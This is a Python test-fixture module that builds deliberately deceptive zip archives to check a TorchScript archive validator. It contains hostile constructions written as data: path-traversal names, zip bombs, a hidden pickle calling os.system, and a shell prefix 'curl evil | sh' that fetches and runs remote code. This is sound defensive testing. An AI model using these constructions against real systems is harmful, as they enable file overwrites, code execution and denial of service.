"""Archives made to deceive a reader: each is a benign one of torch's, with one thing about its zip file changed."""

import struct
import unicodedata
import zlib
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from tests.core.intake.torchscript.zips import (
    DEFLATED,
    ROOT,
    Entry,
    changed,
    deflated,
    entry_named,
    local_header,
    without,
    write_zip,
)

Entries = list[Entry]
Maker = Callable[[Entries], bytes]

CODE = "code/__torch__/torch/nn/modules/container.py"
TENSOR = "data/0"
ACCENTED = f"{ROOT}/extra/caf\N{LATIN SMALL LETTER E WITH ACUTE}"
DECOMPOSED = unicodedata.normalize("NFD", ACCENTED)
ENCRYPTED, STRONGLY_ENCRYPTED, COMPRESSED_PATCH = 0x1, 0x40, 0x20
SYMLINK, DEVICE, SETUID = 0o120777 << 16, 0o060666 << 16, 0o104755 << 16
DOS_FOLDER = 0x10


def add(name: str | bytes, **how: Any) -> Maker:
    """One more member."""
    return lambda entries: write_zip([*entries, Entry(name, b"harmless", **how)])


def write(name: str, **how: Any) -> Maker:
    """One member, written otherwise."""
    return lambda entries: write_zip(changed(entries, name, **how))


def finish(**how: Any) -> Maker:
    """The same members; another beginning or another end."""
    return lambda entries: write_zip(entries, **how)


def cut(keep: Callable[[bytes], bytes]) -> Maker:
    return lambda entries: keep(write_zip(entries))


def overlapping_fully(entries: Entries) -> bytes:
    """Two names for the bytes of one member."""
    twin = replace(entry_named(entries, TENSOR), name=f"{ROOT}/data/77", only_listed=True, central={"offset": 0})
    assert entries[0].name == f"{ROOT}/{TENSOR}"
    return write_zip([*entries, twin])


def overlapping_by_quoting(entries: Entries) -> bytes:
    """A member that unpacks to the header of the next one, and then shares its bytes: how bombs without layers work."""
    bare: dict[str, Any] = {"method": DEFLATED, "described": False, "extra": b""}
    inner = Entry(f"{ROOT}/code/b.py", b"0" * 1000, **bare)
    header = local_header(inner, 0)
    length = len(header)
    quote = struct.pack("<BHH", 0, length, length ^ 0xFFFF)  # a block of deflate that is stored, and not the last
    content = header + inner.content
    stated = {"compressed": len(quote + header + inner.written), "size": len(content), "crc": zlib.crc32(content)}
    outer = Entry(f"{ROOT}/code/a.py", quote, packed=quote, central=stated, local=stated, **bare)
    return write_zip([*entries, outer, inner])


def overlapping_the_directory(entries: Entries) -> bytes:
    longer = len(entries[-1].content) + 200
    last = replace(entries[-1], central={"compressed": longer, "size": longer})
    return write_zip([*entries[:-1], last])


def listed_in_the_directory(entries: Entries) -> bytes:
    """A member whose local header is said to lie in the directory."""
    size = len(write_zip(entries)) - 200
    return write_zip([*entries, Entry(f"{ROOT}/data/77", b"", only_listed=True, central={"offset": size})])


def ended_twice(entries: Entries) -> bytes:
    whole = write_zip(entries)
    return whole + whole[-22:]


def ended_twice_with_all_records(entries: Entries) -> bytes:
    whole = write_zip(entries)
    return whole + whole[-98:]


def two_archives(entries: Entries) -> bytes:
    return write_zip(entries) * 2


def too_many(entries: Entries) -> bytes:
    first = entries[0]
    return write_zip([*entries, *(replace(first, name=f"n/{n}", only_listed=True) for n in range(1 << 16))])


def many_accents(entries: Entries) -> bytes:
    """Names whose marks would have to be sorted, one by one, before they can be compared."""
    marks = "\N{COMBINING ACUTE ACCENT}" * 240 + "\N{COMBINING DOT BELOW}" * 240
    accented = [replace(entries[0], name=f"{ROOT}/extra/a{marks}{n}", only_listed=True) for n in range(8_000)]
    return write_zip([*entries, *accented])


def with_a_hole(entries: Entries) -> bytes:
    """A member's bytes are there, and its name is not: what other readers find by reading from the front."""
    hidden = Entry(f"{ROOT}/data.pkl", b"cos\nsystem\n.")
    return write_zip(changed(entries, TENSOR, after=local_header(hidden, 0) + hidden.content))


def bomb(megabytes: int, stated: int | None = None) -> Maker:
    """Zeros below code/; `stated` is what the archive says of their size."""

    def make(entries: Entries) -> bytes:
        zeros = bytes(megabytes << 20)
        lie = {} if stated is None else {"size": stated}
        descriptor = struct.pack(
            "<4L", 0x08074B50, zlib.crc32(zeros), len(deflated(zeros)), lie.get("size", len(zeros))
        )
        how: dict[str, Any] = {"method": DEFLATED, "central": lie, "descriptor": descriptor}
        return write_zip([*entries, Entry(f"{ROOT}/code/bomb.py", zeros, **how)])

    return make


def many_bombs(entries: Entries) -> bytes:
    zeros = bytes(3 << 20)
    packed = deflated(zeros)
    bombs = [Entry(f"{ROOT}/code/b{n}.py", zeros, DEFLATED, packed) for n in range(40)]
    return write_zip([*entries, *bombs])


def slow_deflate(entries: Entries) -> bytes:
    """Millions of empty blocks that unpack to nothing."""
    packed = b"\0\0\0\xff\xff" * (1 << 20) + b"\3\0"
    return write_zip([*entries, Entry(f"{ROOT}/code/slow.py", b"", DEFLATED, packed)])


def repacked(change: Callable[[bytes], bytes]) -> Maker:
    """The code of the archive, deflated otherwise."""

    def make(entries: Entries) -> bytes:
        return write_zip(changed(entries, CODE, packed=change(deflated(entry_named(entries, CODE).content))))

    return make


def with_other_bytes(entries: Entries) -> bytes:
    return write_zip(changed(entries, TENSOR, packed=entry_named(entries, TENSOR).content[::-1]))


def zero_sized(name: str) -> Maker:
    """A member whose size is zero wherever it is stated; its bytes are there."""

    def make(entries: Entries) -> bytes:
        entry = entry_named(entries, name)
        descriptor = struct.pack("<4L", 0x08074B50, zlib.crc32(entry.content), len(entry.written), 0)
        return write_zip(changed(entries, name, central={"size": 0}, descriptor=descriptor))

    return make


def nested(entries: Entries) -> bytes:
    return write_zip([replace(entry, name=f"outer/{entry.name}") for entry in entries])


def rooted_nowhere(entries: Entries) -> bytes:
    return write_zip([replace(entry, name=str(entry.name).removeprefix(f"{ROOT}/")) for entry in entries])


def lacking(*names: str) -> Maker:
    return lambda entries: write_zip(without(entries, *names))


def zip64(*values: int) -> bytes:
    return struct.pack(f"<2H{len(values)}Q", 1, 8 * len(values), *values)


SEVENTY_SEVEN = f"{ROOT}/data/77"
HOSTILE: dict[str, tuple[str, Maker]] = {
    # names
    "traversal": ("zip-name", add("../evil.py")),
    "traversal below the root": ("zip-name", add(f"{ROOT}/../../evil.py")),
    "traversal in the middle": ("zip-name", add(f"{ROOT}/extra/../../../evil.py")),
    "traversal at the end": ("zip-name", add(f"{ROOT}/extra/..")),
    "absolute": ("zip-name", add("/etc/cron.d/evil")),
    "drive letter": ("zip-name", add("C:/evil.py")),
    "NUL": ("zip-name", add(f"{ROOT}/data.pkl\0.txt")),
    "newline": ("zip-name", add(f"{ROOT}/extra/a\nb")),
    "backslash": ("zip-name", add(f"{ROOT}/extra\\..\\evil.py")),
    "empty part": ("zip-name", add(f"{ROOT}//data.pkl")),
    "dot part": ("zip-name", add(f"{ROOT}/./data.pkl")),
    "endless name": ("zip-name", add(f"{ROOT}/extra/{'a' * 60_000}")),
    "name that is no UTF-8": ("zip-name-encoding", add(ROOT.encode() + b"/extra/\xff\xfe")),
    "unmarked UTF-8": ("zip-name-encoding", add(ACCENTED, flags=0)),
    "duplicate": ("zip-duplicate", add(f"{ROOT}/{TENSOR}")),
    "duplicate but for case": ("zip-duplicate", add(f"{ROOT}/DATA.pkl")),
    "duplicate but for case, beyond ASCII": (
        "zip-duplicate",
        lambda entries: write_zip([*entries, Entry(ACCENTED, b"a"), Entry(ACCENTED.replace("\u00e9", "\u00c9"), b"b")]),
    ),
    "duplicate but for composition": (
        "zip-name",
        lambda entries: write_zip([*entries, Entry(ACCENTED, b"a"), Entry(DECOMPOSED, b"b")]),
    ),
    "accents that take long to sort": ("zip-name", many_accents),
    "two versions": ("zip-duplicate", add(f"{ROOT}/.data/version")),
    "folder": ("zip-folder", add(f"{ROOT}/extra/")),
    "two roots": ("zip-root", add("other/data.pkl")),
    "no root": ("zip-root", rooted_nowhere),
    "member beside the root": ("zip-root", add("readme.txt")),
    "nested root": ("zip-unknown-member", nested),
    "mobile bytecode": ("zip-unknown-member", add(f"{ROOT}/bytecode.pkl")),
    "library": ("zip-unknown-member", add(f"{ROOT}/code/evil.so")),
    "second spelling of a number": ("zip-unknown-member", add(f"{ROOT}/data/00")),
    "no constants": ("zip-missing-member", lacking("constants.pkl")),
    "no version": ("zip-missing-member", lacking("version")),
    "no members": ("zip-root", lambda entries: write_zip([])),
    # what the directory says of a member
    "encrypted": ("zip-encrypted", add(SEVENTY_SEVEN, flags=0x800 | ENCRYPTED)),
    "strongly encrypted": ("zip-encrypted", add(SEVENTY_SEVEN, flags=0x800 | STRONGLY_ENCRYPTED)),
    "unknown flag": ("zip-flags", add(SEVENTY_SEVEN, flags=0x800 | COMPRESSED_PATCH)),
    "lzma": ("zip-method", add(SEVENTY_SEVEN, method=14)),
    "symbolic link": ("zip-file-mode", add(SEVENTY_SEVEN, central={"external": SYMLINK})),
    "device": ("zip-file-mode", add(SEVENTY_SEVEN, central={"external": DEVICE})),
    "setuid": ("zip-file-mode", add(SEVENTY_SEVEN, central={"external": SETUID})),
    "folder by its attribute": ("zip-file-mode", add(SEVENTY_SEVEN, central={"external": DOS_FOLDER})),
    "member comment": ("zip-comment", add(SEVENTY_SEVEN, comment=b"hello")),
    "member on another disk": ("zip-multi-disk", add(SEVENTY_SEVEN, central={"disk": 1})),
    "extra field in the directory": ("zip-extra", add(SEVENTY_SEVEN, central_extra=b"up\4\0evil")),
    "extra field cut short": ("zip-extra", add(SEVENTY_SEVEN, central_extra=b"FB\x40\0ZZ")),
    "64-bit size that differs": (
        "zip-overlap",
        write(TENSOR, central={"size": 0xFFFFFFFF, "compressed": 0xFFFFFFFF}, central_extra=zip64(999, 999)),
    ),
    "64-bit values cut short": ("zip-zip64", add(SEVENTY_SEVEN, central_extra=b"\1\0\3\0abc")),
    "missing 64-bit offset": ("zip-zip64", add(SEVENTY_SEVEN, central={"offset": 0xFFFFFFFF})),
    "unasked 64-bit offset": ("zip-zip64", add(SEVENTY_SEVEN, central_extra=zip64(1 << 40))),
    "astronomic offset": (
        "zip-overlap",
        add(SEVENTY_SEVEN, central={"offset": 0xFFFFFFFF}, central_extra=zip64((1 << 64) - 1)),
    ),
    "astronomic size": (
        "zip-overlap",
        add(
            SEVENTY_SEVEN,
            central={"size": 0xFFFFFFFF, "compressed": 0xFFFFFFFF},
            central_extra=zip64((1 << 64) - 1, (1 << 64) - 1),
        ),
    ),
    # what lies where
    "overlap, full": ("zip-overlap", overlapping_fully),
    "overlap, quoted": ("zip-overlap", overlapping_by_quoting),
    "overlap with the directory": ("zip-overlap", overlapping_the_directory),
    "member in the directory": ("zip-overlap", listed_in_the_directory),
    "hidden member": ("zip-gap", with_a_hole),
    "gap": ("zip-gap", write(TENSOR, after=bytes(64))),
    "gap after a member without descriptor": ("zip-gap", write("version", described=False, after=bytes(16))),
    "local header elsewhere": ("zip-header", write("data.pkl", local={"signature": 0x504B0506})),
    "local name differs": ("zip-header", write(TENSOR, local_name=f"{ROOT}/evil.0".encode())),
    "local name differs in length": ("zip-header", write(TENSOR, local_name=f"{ROOT}/data.pkl".encode())),
    "local method differs": ("zip-header", write(TENSOR, local={"method": DEFLATED})),
    "local flags differ": ("zip-header", write(TENSOR, local={"flags": 0x800})),
    "local time differs": ("zip-header", write(TENSOR, local={"time": 1})),
    "local size differs": ("zip-header", write(TENSOR, local={"size": 1, "compressed": 1})),
    "local checksum differs": ("zip-header", write(TENSOR, local={"crc": 1})),
    "local header states nothing": ("zip-header", write(TENSOR, described=False, local={"crc": 0})),
    "local 64-bit offset cut short": ("zip-zip64", write(TENSOR, extra=b"\1\0\3\0abc")),
    "local 64-bit size": ("zip-header", write(TENSOR, extra=zip64(1 << 40))),
    "padding with a message": ("zip-padding", write(TENSOR, extra=b"FB\x08\0ZZevilZZ")),
    "padding with zeros": ("zip-padding", write(TENSOR, extra=b"FB\x08\0" + bytes(8))),
    "padding cut short": ("zip-extra", write(TENSOR, extra=b"FB\x09\0ZZZZZZZZ")),
    "padding twice": ("zip-extra", write(TENSOR, extra=b"FB\x01\0ZFB\x01\0Z")),
    "another name in an extra field": ("zip-extra", write(TENSOR, extra=b"up\x09\0\1\0\0\0\0evil")),
    "descriptor differs": ("zip-descriptor", write(TENSOR, descriptor=struct.pack("<4L", 0x08074B50, 1, 2, 3))),
    "descriptor without its mark": ("zip-descriptor", write(TENSOR, descriptor=bytes(16))),
    "descriptor missing": ("zip-descriptor", write(TENSOR, descriptor=b"")),
    # the end
    "prefix": ("zip-prefix", finish(prefix=b"#!/bin/sh\ncurl evil | sh\nexit\n")),
    "prefix that looks like a member": ("zip-prefix", finish(prefix=b"PK\3\4" + bytes(60))),
    "prefix with the old offsets": ("zip-end", cut(lambda whole: b"#!/bin/sh\nexit\n" + whole)),
    "two archives": ("zip-end", two_archives),
    "two archives without 64-bit records": ("zip-end", lambda entries: write_zip(entries, zip64=False) * 2),
    "trailing bytes": ("zip-trailing", finish(tail=b"<script>")),
    "many trailing bytes": ("zip-truncated", finish(tail=bytes(1 << 20))),
    "two end records": ("zip-end", ended_twice),
    "two ends with all records": ("zip-end", ended_twice_with_all_records),
    "bytes before the end": ("zip-end", finish(before_end=b"PK\5\6" + bytes(18))),
    "comment": ("zip-comment", finish(end={"comments": 5}, tail=b"hello")),
    "comment that is not there": ("zip-trailing", finish(end={"comments": 5})),
    "several disks": ("zip-multi-disk", finish(end={"disk": 1})),
    "several disks by the locator": ("zip-multi-disk", finish(locator={"disks": 2})),
    "several disks in 64 bits": ("zip-multi-disk", finish(end64={"directory_disk": 1})),
    "64-bit end with another offset": ("zip-zip64", finish(end64={"offset": 0})),
    "64-bit end with another count": ("zip-zip64", finish(end64={"members": 1, "here": 1})),
    "64-bit end of another length": ("zip-zip64", finish(end64={"length": 60})),
    "64-bit end elsewhere": ("zip-end", finish(locator={"offset": 0})),
    "64-bit end missing": ("zip-zip64", finish(zip64=False, end={"offset": 0xFFFFFFFF})),
    "fewer members than listed": ("zip-directory", finish(zip64=False, end={"members": 3, "here": 3})),
    "more members than listed": ("zip-directory", finish(zip64=False, end={"members": 999, "here": 999})),
    "too many members": ("zip-too-many", too_many),
    "cut at the end": ("zip-truncated", cut(lambda whole: whole[:-30])),
    "cut in the middle": ("zip-truncated", cut(lambda whole: whole[: len(whole) // 2])),
    "a part removed": ("zip-end", cut(lambda whole: whole[:300] + whole[400:])),
    "too short": ("zip-truncated", cut(lambda whole: whole[:20])),
    # the bytes
    "checksum": ("zip-crc", with_other_bytes),
    "deflated tensor": ("zip-not-stored", write(TENSOR, method=DEFLATED, packed=None)),
    "deflated pickle": ("zip-not-stored", write("data.pkl", method=DEFLATED, packed=None)),
    "deflated version": ("zip-not-stored", write("version", method=DEFLATED, packed=None)),
    "tensor of size zero": ("zip-size", zero_sized(TENSOR)),
    "code of size zero": ("zip-inflate", zero_sized(CODE)),
    "bomb": ("zip-code-size", bomb(64)),
    "bomb that states a small size": ("zip-inflate", bomb(64, stated=1000)),
    "many bombs": ("zip-code-size", many_bombs),
    "slow deflate": ("zip-code-size", slow_deflate),
    "deflate cut short": ("zip-inflate", repacked(lambda packed: packed[:-20])),
    "deflate that goes on": ("zip-inflate", repacked(lambda packed: packed + b"evil")),
    "no deflate": ("zip-inflate", repacked(lambda packed: b"\xff" * len(packed))),
    "big-endian": ("zip-byteorder", write("byteorder", content=b"big", packed=None)),
    "endless byte order": ("zip-member-size", write("byteorder", content=b"little" * 99, packed=None)),
}
